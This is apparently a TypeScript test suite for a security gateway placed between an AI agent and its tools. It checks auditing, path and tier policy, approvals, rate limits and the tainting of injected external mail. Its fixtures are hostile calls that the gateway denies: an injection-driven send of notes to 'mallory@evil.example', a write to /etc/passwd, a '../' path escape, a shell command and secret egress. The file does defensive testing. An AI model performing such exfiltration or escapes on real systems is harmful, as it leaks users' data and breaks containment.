import assert from 'node:assert/strict';
import { test } from 'node:test';
import { resultText } from '@capstan/contracts';
import { openHouse, ownServer, resultOf, ruleOf, secret } from './open-house.ts';

const mallory = { to: 'mallory@evil.example', body: 'the notes' };

test('G1 audit: every exit leaves a row, and the rows of a call surround its effect', async (t) => {
  const house = await openHouse(t);
  await house.call('own__write_file', { path: 'a.txt', content: 'x' }, { id: 'written' });
  await house.call('own__read_file', { path: '../a.txt' }, { id: 'climbed' });
  await house.call('mail__add_note', { text: `note ${secret}` }, { id: 'asked' });
  await house.call('own__die_reading', {}, { id: 'died' });
  const rows = (await house.audit()).map((row) => [row.callId, row.kind, row.decision, row.rule]);
  assert.deepEqual(rows, [
    ['written', 'decision', 'allowed', 'contained-write'],
    ['written', 'result', 'result', 'contained-write'],
    ['climbed', 'decision', 'denied', 'policy/path-outside'],
    ['asked', 'decision', 'denied', 'information-flow/secret-egress'],
    ['died', 'decision', 'allowed', 'read'],
    ['died', 'result', 'failed', 'read'],
  ]);
  assert.ok(!JSON.stringify(await house.audit()).includes(secret));
  assert.deepEqual(await house.storage.verifyAudit(), { ok: true, rows: rows.length });
});

test('G1 resolve: a name without a tool is refused, a name with one reaches its server', async (t) => {
  const house = await openHouse(t);
  const gone = await house.call('own__gone', {}, { context: { tools: ['own__gone'] } });
  assert.equal(ruleOf(gone), 'resolve/unknown-tool');
  assert.equal(resultText(resultOf(await house.call('own__read_file', { path: 'a.txt' }))), 'content of a.txt');
});

test('G1 validate: arguments that do not fit never reach a server, and the answer says what fits', async (t) => {
  const house = await openHouse(t);
  const outcome = await house.call('own__write_file', { path: 'a.txt', contents: 'x' });
  assert.equal(ruleOf(outcome), 'validate/arguments');
  assert.ok(outcome.kind === 'denied');
  assert.match(outcome.failure.message, /There is no parameter called "contents".*content \(string, required\)/u);
  assert.equal(outcome.failure.level, 'param');
  assert.deepEqual(house.ledger(), []);
});

test('G1 policy: paths, tiers and undeclared tools are refused before anything is sent', async (t) => {
  const house = await openHouse(t);
  await house.call('own__read_file', { path: 'a.txt' });
  assert.equal(
    ruleOf(await house.call('own__write_file', { path: '/etc/passwd', content: '' })),
    'policy/path-outside',
  );
  assert.equal(ruleOf(await house.call('own__shell', { command: 'id' })), 'policy/tier-dangerous-off');
  const undeclared = await house.call('own__write_file', { path: 'a', content: '' }, { context: { tools: [] } });
  assert.equal(ruleOf(undeclared), 'policy/undeclared-tool');
  assert.deepEqual(
    house.ledger().map((line) => line.tool),
    ['read_file'],
  );
});

test('G1 information flow: an agent that obeys an injection cannot send, whatever was granted', async (t) => {
  const house = await openHouse(t);
  await house.grant({ tool: 'mail__send_mail' });
  await house.call('mail__read_inbox');
  assert.equal(ruleOf(await house.call('mail__send_mail', mallory, { taint: 'tainted' })), 'ask/destination-tainted');
  assert.equal(ruleOf(await house.call('mail__send_mail', mallory)), 'ask/destination-unknown');
  const wanted = await house.call('mail__send_mail', { to: 'ann@example.org', body: 'done' });
  assert.match(resultText(resultOf(wanted)), /sent to ann@example\.org/u);
  assert.deepEqual(
    house.ledger().map((line) => line.input.to),
    [undefined, 'ann@example.org'],
  );
});

test('G1 limits: too many calls are refused with the time after which they may come', async (t) => {
  const house = await openHouse(t, { limits: { userPerMinute: 3, toolPerSecond: 2 } });
  const call = () => house.call('own__read_file', { path: 'a.txt' });
  assert.deepEqual([ruleOf(await call()), ruleOf(await call())], ['result', 'result']);
  const outcome = await call();
  assert.equal(ruleOf(outcome), 'limits-and-breaker/rate-tool');
  assert.ok(outcome.kind === 'denied');
  assert.deepEqual([outcome.failure.level, outcome.failure.afterMs], ['retryable', 1_000]);
  house.clock.time += 1_000;
  assert.equal(ruleOf(await call()), 'limits-and-breaker/rate-user');
  assert.equal(house.ledger().length, 2);
});

test('G1 approval: a write outside of the workspace waits for a yes to that very call, once', async (t) => {
  const house = await openHouse(t);
  const note = (text: string) => house.call('mail__add_note', { text }, { id: 'note' });
  const asked = await note('first');
  assert.equal(ruleOf(asked), 'ask/tier-write');
  assert.deepEqual(house.ledger(), []);
  await house.decide(asked, 'approved');
  assert.equal(ruleOf(await note('second')), 'ask/tier-write');
  assert.equal(ruleOf(await note('first')), 'result');
  assert.equal(ruleOf(await note('first')), 'result');
  assert.deepEqual(
    house.ledger().map((line) => line.input.text),
    ['first'],
  );
  const other = await house.call('mail__add_note', { text: 'first' }, { id: 'other' });
  await house.decide(other, 'denied');
  const refused = await house.call('mail__add_note', { text: 'first' }, { id: 'other' });
  assert.equal(ruleOf(refused), 'approval/denied-by-human');
});

test('G1 cache: a pure read is answered once per state of the workspace, and apart for each agent', async (t) => {
  let version = 1;
  const house = await openHouse(t, { workspaceState: async () => `state-${version}` });
  const ask = async (agent = 'agent') =>
    resultText(resultOf(await house.call('own__summarise', { topic: 'sums' }, { context: { agent } })));
  assert.deepEqual([await ask(), await ask()], ['sums: call 1', 'sums: call 1']);
  assert.equal(await ask('another'), 'sums: call 2');
  version = 2;
  assert.equal(await ask(), 'sums: call 3');
  assert.equal((await house.audit()).filter((row) => row.kind === 'decision').length, 4);
});

test('G1 execute: a finished call is not made again in another life', async (t) => {
  const first = await openHouse(t);
  const write = { path: 'a.txt', content: 'x' };
  const before = resultOf(await first.call('own__write_file', write, { id: 'w' }));
  const second = await first.restart();
  assert.deepEqual(resultOf(await second.call('own__write_file', write, { id: 'w' })), before);
  assert.equal(second.ledger().length, 1);
  const changed = await second.call('own__write_file', { ...write, content: 'y' }, { id: 'w' });
  assert.equal(ruleOf(changed), 'unknown-outcome');
  assert.equal(second.ledger().length, 1);
});

test('G1 scan and label: external text comes between markers that it cannot forge, and taints the session', async (t) => {
  const house = await openHouse(t);
  const result = resultOf(await house.call('mail__read_inbox'));
  assert.deepEqual(result.label, { integrity: 'external', secrecy: 'public', origin: 'mail:read_inbox' });
  const lines = resultText(result).split('\n');
  const [, nonce] =
    /^<<external-content id=([0-9a-f]{24}) source=mail__read_inbox found=instructions/u.exec(lines[0] ?? '') ?? [];
  assert.equal(lines.at(-1), `<<end-external-content id=${nonce}>>`);
  assert.equal(resultText(result).match(/<<end-external-content/gu)?.length, 1);
  const own = resultOf(await house.call('own__read_file', { path: 'src/a.ts' }));
  assert.deepEqual(own.label, { integrity: 'workspace', secrecy: 'public', origin: 'own:src/a.ts' });
  const run = await house.call('own__run_check', { checkId: 'npm:test', filter: 'sums' });
  assert.equal(ruleOf(run), 'ask/tainted-parameters');
});

test('G1 cap and store: long text goes to the blob store and stays inline as head, tail and link', async (t) => {
  const house = await openHouse(t);
  const { content } = resultOf(await house.call('own__read_file', { path: 'big.txt' }));
  const [shown, link] = content;
  assert.ok(shown !== undefined && 'text' in shown && link !== undefined && 'uri' in link);
  assert.ok(Buffer.byteLength(String(shown.text)) <= 8 * 1024);
  assert.match(String(shown.text), /^长[\s\S]*left out[\s\S]*the end$/u);
  assert.ok(!String(shown.text).includes('\ufffd'));
  const whole = await house.storage.blobs.get(String(link.uri).replace('capstan-blob:', ''));
  assert.equal(Buffer.from(whole ?? []).toString(), `${'长'.repeat(10_000)}the end`);
});

test('G3: strict approvals ask for contained writes too, dangerous tools need to be enabled and then a yes', async (t) => {
  const servers = (folder: string) => [ownServer(folder, { enabledDangerous: ['shell'] })];
  const house = await openHouse(t, { approvals: 'strict', servers });
  await house.grant({ tool: 'own__write_file' });
  assert.equal(ruleOf(await house.call('own__write_file', { path: 'a', content: '' })), 'ask/strict-write');
  assert.equal(ruleOf(await house.call('own__run_check', { checkId: 'npm:test' })), 'ask/strict-write');
  assert.equal(ruleOf(await house.call('own__shell', { command: 'id' })), 'ask/strict-dangerous');
  assert.equal(ruleOf(await house.call('own__read_file', { path: 'a' })), 'result');
});
